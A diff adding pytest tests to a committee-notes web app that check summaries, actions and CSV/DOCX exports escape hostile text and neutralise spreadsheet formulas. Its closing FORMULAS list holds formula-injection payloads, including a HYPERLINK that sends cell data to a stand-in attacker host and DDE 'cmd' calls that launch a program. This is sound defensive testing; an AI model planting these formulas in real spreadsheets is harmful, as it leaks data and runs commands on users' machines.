@@ -5,14 +5,17 @@ htmx attributes (htmx would act on them if they reached the DOM as markup), bidi
 zero-width characters, NUL bytes, emoji, Danish letters and oversized strings.
 """
 
+import csv
+import io
 from html.parser import HTMLParser
 
+import docx
 import pytest
 from markupsafe import escape
 from sqlalchemy import select
 
 from delib.extensions import db
-from delib.models import Committee, Note, Participant
+from delib.models import Committee, Note, Participant, Summary
 from delib.sanitize import ALLOWED_TAGS, clean_html, one_line, plain_text, spreadsheet_cell
 from tests.conftest import HX, text_of
 
@@ -233,3 +236,70 @@ class TestSanitiser:
     ])
     def test_spreadsheet_cells_never_become_formulas(self, value, expected):
         assert spreadsheet_cell(value) == expected
+
+
+class TestReviewAndExports:
+    """Summaries, actions and the exports of the chair's review carry the corpus intact too."""
+
+    @pytest.fixture
+    def chair_setup(self, client, auth, make_user, make_committee, make_client):
+        chair = make_user(email="formand@example.dk")
+        committee = make_committee(chair=chair)
+        member, member_auth = make_client()
+        member_auth.join(committee, "Skribent")
+        for i, payload in enumerate(CORPUS + FORMULAS):
+            assert _post_note(member, committee, payload, f"revkey{i:04d}").status_code == 201
+        auth.login(chair.email)
+        return committee
+
+    def test_summaries_and_actions_are_escaped_wherever_shown(self, client, chair_setup):
+        committee = chair_setup
+        base = f"/udvalg/{committee.id}/gennemgang"
+        tasks = committee.event.tasks
+        for i, payload in enumerate(CORPUS):
+            expected = stored_form(payload)
+            task = tasks[i % len(tasks)]
+            saved = db.session.scalar(select(Summary).where(
+                Summary.committee_id == committee.id, Summary.task_id == task.id))
+            response = client.post(f"{base}/resume/opgave/{task.id}", data={
+                "body": payload, "version": str(saved.version if saved else 0)})
+            assert response.status_code == 302, (payload, text_of(response))
+            assert_shown_escaped(client.get(base).get_data(as_text=True), expected, "review")
+            response = client.post(f"{base}/handlinger/ny", data={
+                "task": str(task.id), "title": payload, "responsible": one_line(payload)[:200],
+                "due_on": "", "status": "planned", "source_note": "", "source_summary": ""})
+            assert response.status_code == 302, (payload, text_of(response))
+            assert_shown_escaped(client.get(f"{base}/handlinger").get_data(as_text=True),
+                                 expected, "actions")
+        report = client.get(f"{base}/rapport").get_data(as_text=True)
+        for payload in CORPUS:
+            assert_shown_escaped(report, stored_form(payload), "printable report")
+
+    def test_csv_export_keeps_text_and_neutralises_formulas(self, client, chair_setup):
+        committee = chair_setup
+        response = client.get(f"/udvalg/{committee.id}/gennemgang/noter.csv")
+        assert response.status_code == 200
+        rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")),
+                               delimiter=";"))
+        header, cells = rows[0], {row[rows[0].index("Note")] for row in rows[1:]}
+        assert "Note" in header
+        for payload in CORPUS:
+            assert stored_form(payload) in cells, payload
+        for formula in FORMULAS:
+            assert "'" + formula in cells and formula not in cells, formula
+
+    def test_docx_export_is_text_not_markup(self, client, chair_setup):
+        committee = chair_setup
+        response = client.get(f"/udvalg/{committee.id}/gennemgang/rapport.docx")
+        assert response.status_code == 200
+        document = docx.Document(io.BytesIO(response.get_data()))
+        text = "\n".join(p.text for p in document.paragraphs)
+        for payload in CORPUS:
+            # Each line of a note is in the document as typed (Word keeps line breaks as such).
+            for line in stored_form(payload).split("\n"):
+                assert line in text, payload
+
+
+#: Spreadsheet formulas a note might (maliciously) start with.
+FORMULAS = ['=HYPERLINK("http://angriber.example/?"&A1;"Klik")', "+45 12 34 56 78",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
